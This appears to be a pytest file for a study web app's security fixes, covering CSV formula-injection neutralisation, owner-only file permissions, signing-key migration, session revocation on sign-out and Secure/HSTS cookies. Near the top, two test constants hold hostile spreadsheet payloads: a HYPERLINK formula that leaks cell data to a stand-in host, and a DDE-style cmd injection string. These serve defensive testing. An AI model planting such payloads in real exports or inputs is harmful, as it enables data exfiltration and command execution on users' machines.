"""Issue #28, secrets and sessions: formula injection, file modes, the signing key file and its
migration out of older databases, sign-out revoking the cookie, Secure cookies + HSTS behind TLS."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import inspect, select, text
from study_helpers import StudyFixture, make_study, write_study_files
from test_routes import complete_session, login
from typer.testing import CliRunner
from uvicorn.middleware.proxy_headers import ProxyHeadersMiddleware

from altcap.cli import app as cli_app
from altcap.study.app import create_app
from altcap.study.config import StudySiteConfig
from altcap.study.db import make_engine, upgrade_database
from altcap.study.export import neutralise_cell
from altcap.study.security import KEY_FILE_NAME, KeyFileError, read_signing_key

runner = CliRunner()
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
REASON = "@SUM(1+1)*cmd|' /C calc'!A0"


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def admin_form_tokens(client: TestClient) -> dict[str, str]:
    html = client.get("/admin/participants").text
    nonce = html.split('name="nonce" value="')[1].split('"')[0]
    csrf = html.split('name="csrf" value="')[1].split('"')[0]
    return {"nonce": nonce, "csrf": csrf}


def test_formula_injection_cells_neutralised_in_csv_kept_raw_in_json(
    client: TestClient, study: StudyFixture
) -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise_cell(f"{start}1+2") == f"'{start}1+2"
    assert neutralise_cell(-3) == -3 and neutralise_cell("P001") == "P001" and neutralise_cell("") == ""
    complete_session(client, study.tokens[0], comment=FORMULA)
    login(client, study)
    client.post("/admin/participants/P001/withdraw", data={**admin_form_tokens(client), "reason": REASON})
    rows = list(csv.DictReader(io.StringIO(client.get("/admin/export/responses.csv").text)))
    comments = {r["value"] for r in rows if r["item"] == "comment"}
    assert comments == {"'" + FORMULA}
    people = list(csv.DictReader(io.StringIO(client.get("/admin/export/participants.csv").text)))
    assert people[0]["withdraw_reason"] == "'" + REASON
    raw = client.get("/admin/export/responses.json").json()
    assert {r["value"] for r in raw if r["item"] == "comment"} == {FORMULA}  # JSON keeps the raw text


def test_file_permissions_owner_only_whatever_the_umask(tmp_path: Path) -> None:
    yaml_path = write_study_files(tmp_path / "design")
    run_dir, links, out = tmp_path / "run", tmp_path / "links.csv", tmp_path / "export"
    old_umask = os.umask(0)  # the most permissive umask: modes must not depend on it
    try:
        init = ["study", "init", "--config", str(yaml_path), "--run-dir", str(run_dir)]
        assert runner.invoke(cli_app, init).exit_code == 0
        invite = ["study", "invite", "--n", "2", "--run-dir", str(run_dir), "--csv", str(links)]
        assert runner.invoke(cli_app, invite).exit_code == 0
        site = StudySiteConfig(run_dir=run_dir)
        with TestClient(create_app(site), follow_redirects=False) as client:
            token = next(csv.DictReader(links.open()))["url"].rsplit("/", 1)[1]
            complete_session(client, token)
        export = ["study", "export", "--run-dir", str(run_dir), "--out", str(out)]
        assert runner.invoke(cli_app, export).exit_code == 0
    finally:
        os.umask(old_umask)
    assert mode_of(run_dir) == 0o700
    for name in ("study.db", "study.db-wal", "study.db-shm", KEY_FILE_NAME, "admin_secret.txt"):
        if (run_dir / name).exists() or name == "study.db":
            assert mode_of(run_dir / name) == 0o600, name
    assert mode_of(links) == 0o600
    key = (run_dir / KEY_FILE_NAME).read_text().strip()
    assert len(key) >= 32 and key.encode() not in (run_dir / "study.db").read_bytes()
    with make_engine(site.resolve_db_url()).connect() as connection:
        assert "secret_key" not in {c["name"] for c in inspect(connection).get_columns("study")}
    for path in [*out.iterdir(), *run_dir.glob("*.json"), *run_dir.glob("*.yaml")]:
        assert key not in path.read_text(), f"signing key in {path}"


def test_file_permissions_key_readable_by_others_refuses_to_start(tmp_path: Path) -> None:
    study = make_study(tmp_path, n_participants=1)
    key_file = study.run_dir / KEY_FILE_NAME
    key_file.chmod(0o644)
    result = runner.invoke(cli_app, ["study", "serve", "--run-dir", str(study.run_dir)])
    assert result.exit_code == 2 and f"chmod 600 {key_file}" in result.output.replace("\n", "")
    with pytest.raises(KeyFileError, match="other users"):
        read_signing_key(key_file)
    key_file.unlink()
    result = runner.invoke(cli_app, ["study", "serve", "--run-dir", str(study.run_dir)])
    assert result.exit_code == 2 and "signing key file not found" in result.output.replace("\n", "")


@pytest.fixture(params=["sqlite", "postgresql"])
def empty_db_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'old.db'}"
    from study_pg import reset_postgres_database

    url = request.getfixturevalue("postgres_url")
    reset_postgres_database(url)
    return url


def test_file_permissions_migration_moves_an_old_key_to_its_file_once(
    empty_db_url: str, tmp_path: Path
) -> None:
    from alembic import command
    from alembic.config import Config

    from altcap.study.db import MIGRATIONS_DIR

    engine = make_engine(empty_db_url)
    config = Config()
    config.set_main_option("script_location", str(MIGRATIONS_DIR))
    old_key = "k" * 43
    with engine.begin() as connection:
        config.attributes["connection"] = connection
        command.upgrade(config, "0002_verifier_role")
        connection.execute(
            text("INSERT INTO study VALUES ('s', '', '', '', '[]', '[]', :key, 'h')"), {"key": old_key}
        )
    with pytest.raises(KeyFileError, match="--run-dir"):
        upgrade_database(engine)  # without a run folder the key has nowhere to go: nothing changes
    key_file = tmp_path / "run" / KEY_FILE_NAME
    upgrade_database(engine, key_file)
    assert read_signing_key(key_file) == old_key and mode_of(key_file) == 0o600
    with engine.connect() as connection:
        assert "secret_key" not in {c["name"] for c in inspect(connection).get_columns("study")}
    upgrade_database(engine, key_file)  # idempotent
    engine.dispose()


def test_logout_revokes_the_session_cookie(client: TestClient, study: StudyFixture) -> None:
    login(client, study)
    cookie = client.cookies.get("altcap_admin")
    assert cookie and client.get("/admin/participants").status_code == 200
    response = client.post("/admin/logout", data=admin_form_tokens(client))
    assert response.status_code == 303
    client.cookies.set("altcap_admin", cookie)  # a copy of the cookie kept from before sign-out
    for path in ("/admin/participants", "/admin/export/responses.csv"):
        refused = client.get(path)
        assert refused.status_code == 303 and refused.headers["location"] == "/admin/login"
    withdraw = client.post("/admin/participants/P001/withdraw", data={"reason": "x", "nonce": "", "csrf": ""})
    assert withdraw.status_code == 303 and withdraw.headers["location"] == "/admin/login"


def sign_in(client: TestClient, secret: str):
    html = client.get("/admin/login").text
    nonce = html.split('name="nonce" value="')[1].split('"')[0]
    csrf = html.split('name="csrf" value="')[1].split('"')[0]
    return client.post("/admin/login", data={"nonce": nonce, "csrf": csrf, "secret": secret})


def test_secure_cookie_hsts_when_the_client_used_https(study: StudyFixture) -> None:
    app = create_app(StudySiteConfig(run_dir=study.run_dir, db=study.db_url))
    with TestClient(app, base_url="https://study.example.org", follow_redirects=False) as client:
        assert client.get("/").headers["strict-transport-security"].startswith("max-age=")
        signed_in = sign_in(client, study.admin_secret)
        assert signed_in.status_code == 303 and "; secure" in signed_in.headers["set-cookie"].lower()
    with TestClient(app, follow_redirects=False) as plain:
        assert "strict-transport-security" not in plain.get("/admin/login").headers
        signed_in = sign_in(plain, study.admin_secret)
        assert signed_in.status_code == 303 and "secure" not in signed_in.headers["set-cookie"].lower()
    # Behind a TLS proxy: uvicorn trusts X-Forwarded-Proto only from --forwarded-allow-ips.
    proxied = ProxyHeadersMiddleware(app, trusted_hosts="10.0.0.5")
    https = {"x-forwarded-proto": "https", "x-forwarded-for": "203.0.113.7"}
    with TestClient(proxied, client=("10.0.0.5", 4000), headers=https, follow_redirects=False) as via_proxy:
        assert "strict-transport-security" in via_proxy.get("/").headers
        assert "; secure" in sign_in(via_proxy, study.admin_secret).headers["set-cookie"].lower()
    with TestClient(proxied, client=("198.51.100.9", 4000), headers=https) as direct:
        assert "strict-transport-security" not in direct.get("/").headers


def test_secure_cookie_hsts_serve_passes_forwarded_allow_ips_to_uvicorn(
    study: StudyFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    import uvicorn

    seen: dict = {}
    monkeypatch.setattr(uvicorn, "run", lambda app, **kwargs: seen.update(kwargs))
    args = ["study", "serve", "--run-dir", str(study.run_dir), "--forwarded-allow-ips", "10.0.0.5,10.0.0.6"]
    if not study.db_url.startswith("sqlite"):
        args += ["--db", study.db_url]
    result = runner.invoke(cli_app, args)
    assert result.exit_code == 0, result.output
    assert seen["forwarded_allow_ips"] == "10.0.0.5,10.0.0.6" and seen["proxy_headers"] is True


def test_logout_revokes_sessions_older_than_12_hours_too(client: TestClient, study: StudyFixture) -> None:
    from sqlalchemy import update

    from altcap.study.db import AdminSession, make_session_factory

    login(client, study)
    assert client.get("/admin/participants").status_code == 200
    with make_session_factory(make_engine(study.db_url))() as db:
        db.execute(update(AdminSession).values(created_at="2000-01-01T00:00:00.000+00:00"))
        db.commit()
    assert client.get("/admin/participants").status_code == 303  # the signed cookie alone is not enough
    login(client, study)  # a new sign-in drops the dead session row
    with make_session_factory(make_engine(study.db_url))() as db:
        assert len(db.scalars(select(AdminSession)).all()) == 1
